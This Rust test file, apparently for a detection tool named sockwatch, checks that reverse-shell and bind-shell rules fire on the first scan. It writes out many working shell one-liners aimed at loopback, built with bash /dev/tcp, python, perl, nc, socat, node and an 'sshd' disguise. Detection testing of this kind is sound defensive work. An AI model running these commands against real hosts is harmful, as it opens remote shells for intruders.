//! The reverse-shell rule pack against real shells on loopback, under `sockwatch run --interval
//! 250ms`: each shell must raise one incident in the first scan that sees it (the alert's
//! `latency_scans` is 0), with the expected rule ids and relay path. Legitimate look-alikes are in
//! `detect_benign`; shells built to dodge the rules are in `detect_adversary`.

use crate::shells::{Case, Far, run_cases};
use crate::util::prerequisites;

const CASES: &[Case] = &[
    Case {
        subject: &["bash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        ..Case::new("bash -i >& /dev/tcp", Far::Tcp, "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1")
    },
    Case {
        // bash opens the socket; the shell it runs is dash, which reads its input in blocks
        // (bash reads a byte at a time, which truncates datagrams: no one uses it over UDP).
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        ..Case::new("bash: sh -i >& /dev/udp", Far::Udp, "sh -i >& /dev/udp/127.0.0.1/PORT 0>&1")
    },
    Case {
        subject: &["python3.11", "python3"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        ..Case::new(
            "python socket + dup2 + subprocess sh",
            Far::Tcp,
            "python3 -c 'import socket,os,subprocess;s=socket.create_connection((\"127.0.0.1\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
        )
    },
    Case {
        // The shell is served by python: the alert is about the shell, python is its relay.
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("python3"),
        ..Case::new(
            "python pty.spawn",
            Far::Tcp,
            "python3 -c 'import socket,os,pty;s=socket.create_connection((\"127.0.0.1\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
        )
    },
    Case {
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        ..Case::new(
            "perl open(STDIN, >&S); exec sh",
            Far::Tcp,
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(PORT,inet_aton(\"127.0.0.1\"))) or die;open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'",
        )
    },
    Case {
        subject: &["dash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        ..Case::new(
            "nc.traditional -e /bin/sh",
            Far::Tcp,
            "nc.traditional -e /bin/sh 127.0.0.1 PORT",
        )
    },
    Case {
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("nc"),
        ..Case::new(
            "mkfifo + cat | sh -i | nc",
            Far::Tcp,
            "f=$(mktemp -u); mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > $f",
        )
    },
    Case {
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("socat"),
        ..Case::new("socat exec:sh (unix socketpair)", Far::Tcp, "socat tcp:127.0.0.1:PORT exec:sh")
    },
    Case {
        subject: &["bash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("socat"),
        ..Case::new(
            "socat exec:'bash -li',pty,stderr,setsid",
            Far::Tcp,
            "socat tcp:127.0.0.1:PORT exec:'bash -li',pty,stderr,setsid",
        )
    },
    Case {
        subject: &["dash", "ncat"],
        rules: &[],
        ..Case::new("ncat -e /bin/sh", Far::Tcp, "ncat -e /bin/sh 127.0.0.1 PORT")
    },
    Case {
        subject: &["dash"],
        rules: &["shell-stdio-relayed-to-outbound-socket", "interpreter-serves-shell-over-network"],
        relay: Some("node"),
        ..Case::new(
            "node child_process.spawn piped to a socket",
            Far::Tcp,
            "node -e 'const net=require(\"net\"),cp=require(\"child_process\");const c=net.connect(PORT,\"127.0.0.1\",()=>{const sh=cp.spawn(\"/bin/sh\",[\"-i\"]);c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});'",
        )
    },
    Case {
        subject: &["bash"],
        rules: &["stdio-outbound-socket", "shell-holds-network-socket"],
        ..Case::new(
            "exec -a sshd reverse shell",
            Far::Tcp,
            "exec -a sshd bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
        )
    },
    Case {
        subject: &["dash"],
        rules: &["bind-shell"],
        ..Case::new(
            "bind shell nc -l -p PORT -e /bin/sh",
            Far::Bind,
            "nc.traditional -l -s 127.0.0.1 -p PORT -e /bin/sh",
        )
    },
    Case {
        subject: &["dash"],
        rules: &["bind-shell"],
        ..Case::new(
            "bind shell systemd-socket-activate --inetd /bin/sh",
            Far::Bind,
            "systemd-socket-activate --inetd -a -l 127.0.0.1:PORT /bin/sh -i",
        )
    },
];

#[test]
fn reverse_and_bind_shells_alert_in_the_first_scan_that_sees_them() {
    if !prerequisites(&[
        "python3",
        "perl",
        "socat",
        "nc",
        "nc.traditional",
        "ncat",
        "node",
        "systemd-socket-activate",
    ]) {
        return;
    }
    run_cases(CASES);
}
